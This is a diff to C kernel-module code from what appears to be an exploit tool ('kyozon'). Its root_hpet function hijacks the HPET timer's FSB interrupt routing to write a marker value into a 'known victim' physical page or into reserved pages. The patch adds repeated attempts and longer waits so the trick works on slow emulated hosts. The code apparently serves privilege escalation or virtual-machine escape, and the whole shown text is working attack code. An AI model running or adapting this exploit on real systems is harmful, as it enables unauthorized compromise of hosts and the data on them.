@@ -244,15 +244,15 @@ static void stop_changer(struct kyozon *k)
 		kthread_stop(changer);
 }
 
-/* Timer 1, which is Linux's, sends its message to memory. */
-static void send_message(phys_addr_t to)
+/* Timer 1, which is Linux's, sends its message to memory. A busy host's emulator is late with it. */
+static void send_message(phys_addr_t to, unsigned int wait_us)
 {
 	hpet_set(HPET_Tn_ROUTE(1), 0x4b595a4f);
 	hpet_set(HPET_Tn_ROUTE(1) + 4, lower_32_bits(to));
 	hpet_set(HPET_Tn_CMP(1), hpet_get(HPET_COUNTER) +
 		 (u32)(20000000000ull / hpet_get(HPET_PERIOD)));
 	hpet_set(HPET_Tn_CFG(1), HPET_TN_FSB | HPET_TN_ENABLE | HPET_TN_32BIT);
-	udelay(200);
+	usleep_range(wait_us, wait_us + 100);
 	hpet_set(HPET_Tn_CFG(1), 0);
 }
 
@@ -261,7 +261,7 @@ int root_hpet(struct kyozon *k, char *unused)
 {
 	unsigned long *physical = (void *)symbol("hpet_address");
 	phys_addr_t known = root_known_victim();
-	u32 config, route, piece, page;
+	u32 config, route, piece, page, n;
 
 	hpet = physical && *physical ? ioremap(*physical, PAGE_SIZE) : NULL;
 	if (!hpet)
@@ -269,11 +269,11 @@ int root_hpet(struct kyozon *k, char *unused)
 	config = hpet_get(HPET_Tn_CFG(1));
 	route = hpet_get(HPET_Tn_ROUTE(1) + 4);
 	hpet_set(HPET_Tn_CFG(1), 0);
-	if (known)
-		send_message(known);
+	for (n = 0; known && n < 10; n++)
+		send_message(known, 50000);
 	for (piece = 0; !known && piece < k->reserve.count; piece++)
 		for (page = 0; page < 1u << k->reserve.pieces[piece].order; page++)
-			send_message(page_to_phys(k->reserve.pieces[piece].page + page));
+			send_message(page_to_phys(k->reserve.pieces[piece].page + page), 200);
 	hpet_set(HPET_Tn_ROUTE(1) + 4, route);
 	hpet_set(HPET_Tn_CFG(1), config);
 	iounmap(hpet);
